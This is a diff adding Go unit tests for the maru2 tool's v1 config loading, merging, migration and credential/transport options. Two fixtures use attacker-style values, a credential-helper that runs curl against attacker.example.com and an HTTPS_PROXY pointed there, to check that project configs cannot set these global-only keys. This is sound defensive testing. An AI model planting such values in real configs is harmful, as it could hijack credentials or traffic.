@@ -0,0 +1,378 @@
+// SPDX-License-Identifier: Apache-2.0
+// SPDX-FileCopyrightText: 2025-Present Defense Unicorns
+
+package v1
+
+import (
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/package-url/packageurl-go"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/defenseunicorns/maru2/config"
+	v0 "github.com/defenseunicorns/maru2/config/v0"
+	schemav1 "github.com/defenseunicorns/maru2/schema/v1"
+	"github.com/defenseunicorns/maru2/uses"
+)
+
+func TestLoadConfig(t *testing.T) {
+	tests := []struct {
+		name      string
+		content   string
+		expected  *Config
+		expectErr string
+	}{
+		{
+			name: "v1 config",
+			content: `schema-version: v1
+fetch-policy: always
+aliases:
+  gh:
+    type: github
+env:
+  REGISTRY: registry.example.com
+store: ${CACHE_DIR}/maru2
+credential-helper: vault kv get -field=token secret/maru2`,
+			expected: &Config{
+				Config: v0.Config{
+					SchemaVersion: SchemaVersion,
+					FetchPolicy:   uses.FetchPolicyAlways,
+					Aliases: schemav1.AliasMap{
+						"gh": {Type: packageurl.TypeGithub},
+					},
+				},
+				Env:              map[string]string{"REGISTRY": "registry.example.com"},
+				Store:            "/var/cache/maru2",
+				CredentialHelper: "vault kv get -field=token secret/maru2",
+			},
+		},
+		{
+			name: "v0 config is migrated",
+			content: `schema-version: v0
+fetch-policy: never
+proxy: http://proxy.example.com:3128`,
+			expected: &Config{
+				Config: v0.Config{
+					SchemaVersion: SchemaVersion,
+					FetchPolicy:   uses.FetchPolicyNever,
+					Aliases:       schemav1.AliasMap{},
+					Proxy:         "http://proxy.example.com:3128",
+				},
+			},
+		},
+		{
+			name: "invalid v0 config",
+			content: `schema-version: v0
+fetch-policy: sometimes`,
+			expectErr: "fetch-policy must be one of the following",
+		},
+		{
+			name: "invalid v1 config",
+			content: `schema-version: v1
+cache:
+  max-size: 1TB`,
+			expectErr: "cache.max-size: Does not match pattern",
+		},
+		{
+			name:      "unsupported schema version",
+			content:   `schema-version: v2`,
+			expectErr: `unsupported config schema version: expected oneof ["v1", "v0"], got "v2"`,
+		},
+	}
+
+	t.Setenv("CACHE_DIR", "/var/cache")
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg, err := LoadConfig(strings.NewReader(tc.content))
+			if tc.expectErr != "" {
+				require.ErrorContains(t, err, tc.expectErr)
+				assert.Nil(t, cfg)
+				return
+			}
+			require.NoError(t, err)
+			assert.Equal(t, tc.expected, cfg)
+		})
+	}
+}
+
+func TestLoadDefaultConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+
+	cfg, err := LoadDefaultConfig()
+	require.NoError(t, err)
+	assert.Equal(t, defaultConfig(), cfg)
+
+	require.NoError(t, os.MkdirAll(filepath.Join(home, ".maru2"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(home, ".maru2", config.DefaultFileName), []byte("schema-version: v1\nstore: /tmp/store\n"), 0o644))
+
+	cfg, err = LoadDefaultConfig()
+	require.NoError(t, err)
+	assert.Equal(t, "/tmp/store", cfg.Store)
+
+	require.NoError(t, os.WriteFile(filepath.Join(home, ".maru2", config.DefaultFileName), []byte("schema-version: v3\n"), 0o644))
+
+	cfg, err = LoadDefaultConfig()
+	require.EqualError(t, err, `failed to load config file: unsupported config schema version: expected oneof ["v1", "v0"], got "v3"`)
+	assert.Nil(t, cfg)
+}
+
+func TestLoadProjectConfig(t *testing.T) {
+	global := &Config{
+		Config: v0.Config{
+			SchemaVersion: SchemaVersion,
+			FetchPolicy:   uses.DefaultFetchPolicy,
+			Aliases: schemav1.AliasMap{
+				"gh": {Type: packageurl.TypeGithub},
+			},
+			Secrets: map[string]string{"token": "env:TOKEN"},
+		},
+		Env: map[string]string{"A": "global"},
+	}
+
+	tests := []struct {
+		name      string
+		content   string
+		expected  func(root string) *Config
+		expectErr string
+	}{
+		{
+			name: "merged over global",
+			content: `schema-version: v1
+fetch-policy: always
+aliases:
+  gl:
+    type: gitlab
+store: .maru2/store`,
+			expected: func(root string) *Config {
+				return &Config{
+					Config: v0.Config{
+						SchemaVersion: SchemaVersion,
+						FetchPolicy:   uses.FetchPolicyAlways,
+						Aliases: schemav1.AliasMap{
+							"gh": {Type: packageurl.TypeGithub},
+							"gl": {Type: packageurl.TypeGitlab},
+						},
+						Secrets: map[string]string{"token": "env:TOKEN"},
+					},
+					Env:   map[string]string{"A": "global"},
+					Store: filepath.Join(root, ".maru2", "store"),
+				}
+			},
+		},
+		{
+			name:    "empty project config",
+			content: `schema-version: v1`,
+			expected: func(_ string) *Config {
+				return global
+			},
+		},
+		{
+			name: "global only key",
+			content: `schema-version: v1
+hosts:
+  example.com:
+    headers:
+      Authorization: Bearer ${TOKEN}`,
+			expectErr: ".hosts can only be set in the global config, project configs can set aliases, fetch-policy, store, task-defaults",
+		},
+		{
+			name: "credential helper",
+			content: `schema-version: v1
+credential-helper: curl -s https://attacker.example.com`,
+			expectErr: ".credential-helper can only be set in the global config",
+		},
+		{
+			name: "env",
+			content: `schema-version: v1
+env:
+  HTTPS_PROXY: http://attacker.example.com`,
+			expectErr: ".env can only be set in the global config",
+		},
+		{
+			name:      "v0 project config",
+			content:   `schema-version: v0`,
+			expectErr: `unsupported project config schema version: expected "v1", got "v0"`,
+		},
+		{
+			name: "expanded before merging",
+			content: `schema-version: v1
+aliases:
+  gl:
+    type: gitlab
+    base-url: ${PROJECT_GITLAB}
+store: ${PROJECT_STORE}/store`,
+			expected: func(root string) *Config {
+				return &Config{
+					Config: v0.Config{
+						SchemaVersion: SchemaVersion,
+						FetchPolicy:   uses.DefaultFetchPolicy,
+						Aliases: schemav1.AliasMap{
+							"gh": {Type: packageurl.TypeGithub},
+							"gl": {Type: packageurl.TypeGitlab, BaseURL: "https://gitlab.example.com"},
+						},
+						Secrets: map[string]string{"token": "env:TOKEN"},
+					},
+					Env:   map[string]string{"A": "global"},
+					Store: filepath.Join(root, "cache", "store"),
+				}
+			},
+		},
+		{
+			name: "unset variable",
+			content: `schema-version: v1
+store: ${PROJECT_UNSET}/store`,
+			expectErr: ".store: environment variable PROJECT_UNSET is not set",
+		},
+		{
+			name: "invalid fetch policy",
+			content: `schema-version: v1
+fetch-policy: sometimes`,
+			expectErr: "fetch-policy must be one of the following",
+		},
+	}
+
+	t.Setenv("PROJECT_GITLAB", "https://gitlab.example.com")
+	t.Setenv("PROJECT_STORE", "cache")
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			root := t.TempDir()
+			path := filepath.Join(root, config.ProjectDirectory, config.DefaultFileName)
+			require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
+			require.NoError(t, os.WriteFile(path, []byte(tc.content), 0o644))
+
+			cfg, err := LoadProjectConfig(global, path)
+			if tc.expectErr != "" {
+				require.ErrorContains(t, err, tc.expectErr)
+				assert.Nil(t, cfg)
+				return
+			}
+			require.NoError(t, err)
+			assert.Equal(t, tc.expected(root), cfg)
+		})
+	}
+
+	_, err := LoadProjectConfig(global, filepath.Join(t.TempDir(), "missing.yaml"))
+	require.ErrorContains(t, err, "failed to read project config file")
+}
+
+func TestMerge(t *testing.T) {
+	global := &Config{
+		Config: v0.Config{
+			Aliases: schemav1.AliasMap{"a": {Type: packageurl.TypeGithub}},
+		},
+		Env:          map[string]string{"A": "1"},
+		Store:        "/global/store",
+		TaskDefaults: []TaskDefaults{{Task: "publish", With: map[string]any{"registry": "global"}}},
+	}
+
+	merged := Merge(global, &Config{
+		Config: v0.Config{
+			Aliases: schemav1.AliasMap{"a": {Type: packageurl.TypeGitlab}},
+		},
+		Store:        "/abs/store",
+		TaskDefaults: []TaskDefaults{{Task: "publish", With: map[string]any{"registry": "project"}}},
+	}, "/project")
+
+	assert.Equal(t, schemav1.AliasMap{"a": {Type: packageurl.TypeGitlab}}, merged.Aliases)
+	assert.Equal(t, map[string]string{"A": "1"}, merged.Env)
+	assert.Equal(t, "/abs/store", merged.Store)
+	assert.Equal(t, map[string]any{"registry": "project"}, merged.TaskWith(nil, "publish"))
+	assert.Len(t, global.TaskDefaults, 1)
+
+	// global is never modified
+	assert.Equal(t, schemav1.AliasMap{"a": {Type: packageurl.TypeGithub}}, global.Aliases)
+	assert.Equal(t, map[string]string{"A": "1"}, global.Env)
+	assert.Equal(t, "/global/store", global.Store)
+}
+
+func TestTaskWith(t *testing.T) {
+	cfg := &Config{
+		TaskDefaults: []TaskDefaults{
+			{Task: "publish", With: map[string]any{"registry": "ghcr.io/myorg", "push": true}},
+			{From: "pkg:github/myorg/", Task: "publish", With: map[string]any{"registry": "ghcr.io/other"}},
+			{From: "file:", Task: "build", With: map[string]any{"target": "local"}},
+		},
+	}
+
+	parse := func(raw string) *url.URL {
+		u, err := url.Parse(raw)
+		require.NoError(t, err)
+		return u
+	}
+
+	assert.Equal(t, map[string]any{"registry": "ghcr.io/myorg", "push": true}, cfg.TaskWith(parse("file:tasks.yaml"), "publish"))
+	assert.Equal(t, map[string]any{"registry": "ghcr.io/other", "push": true}, cfg.TaskWith(parse("pkg:github/myorg/repo@main#tasks.yaml"), "publish"))
+	assert.Equal(t, map[string]any{"target": "local"}, cfg.TaskWith(parse("file:tasks.yaml"), "build"))
+	assert.Nil(t, cfg.TaskWith(parse("https://example.com/tasks.yaml"), "build"))
+	assert.Nil(t, cfg.TaskWith(parse("file:tasks.yaml"), "test"))
+	assert.Nil(t, defaultConfig().TaskWith(parse("file:tasks.yaml"), "publish"))
+}
+
+func TestMigrate(t *testing.T) {
+	old := &v0.Config{
+		SchemaVersion: v0.SchemaVersion,
+		FetchPolicy:   uses.FetchPolicyAlways,
+		History:       &v0.History{MaxRuns: 5},
+	}
+
+	cfg := Migrate(old)
+	assert.Equal(t, SchemaVersion, cfg.SchemaVersion)
+	assert.Equal(t, uses.FetchPolicyAlways, cfg.FetchPolicy)
+	assert.Equal(t, 5, cfg.HistoryMaxRuns())
+	assert.Equal(t, v0.SchemaVersion, old.SchemaVersion)
+}
+
+func TestSchema(t *testing.T) {
+	s := Schema()
+	version, ok := s.Properties.Get("schema-version")
+	require.True(t, ok)
+	assert.Equal(t, []any{SchemaVersion}, version.Enum)
+
+	for _, key := range ProjectKeys {
+		_, ok := s.Properties.Get(key)
+		assert.True(t, ok, key)
+	}
+}
+
+func TestCredentialOptions(t *testing.T) {
+	opts, err := defaultConfig().CredentialOptions()
+	require.NoError(t, err)
+	assert.Empty(t, opts)
+
+	dir := t.TempDir()
+	t.Setenv("NETRC", filepath.Join(dir, "netrc"))
+
+	cfg := &Config{CredentialHelper: "echo token", Netrc: true}
+	opts, err = cfg.CredentialOptions()
+	require.NoError(t, err)
+	assert.Len(t, opts, 2)
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "netrc"), []byte("machine"), 0o600))
+	_, err = cfg.CredentialOptions()
+	require.ErrorContains(t, err, `.netrc: `+filepath.Join(dir, "netrc")+`: netrc: "machine" is missing a value`)
+}
+
+func TestTransportOptions(t *testing.T) {
+	concurrency := func(t *testing.T, cfg *Config) int {
+		t.Helper()
+		opts, err := cfg.TransportOptions()
+		require.NoError(t, err)
+		svc, err := uses.NewFetcherService(opts...)
+		require.NoError(t, err)
+		return svc.Concurrency()
+	}
+
+	assert.Equal(t, uses.DefaultConcurrency, concurrency(t, defaultConfig()))
+	assert.Equal(t, 16, concurrency(t, &Config{FetchConcurrency: 16}))
+
+	_, err := (&Config{Config: v0.Config{Proxy: "not a url"}, FetchConcurrency: 16}).TransportOptions()
+	require.EqualError(t, err, `.proxy "not a url" must be a valid URL`)
+}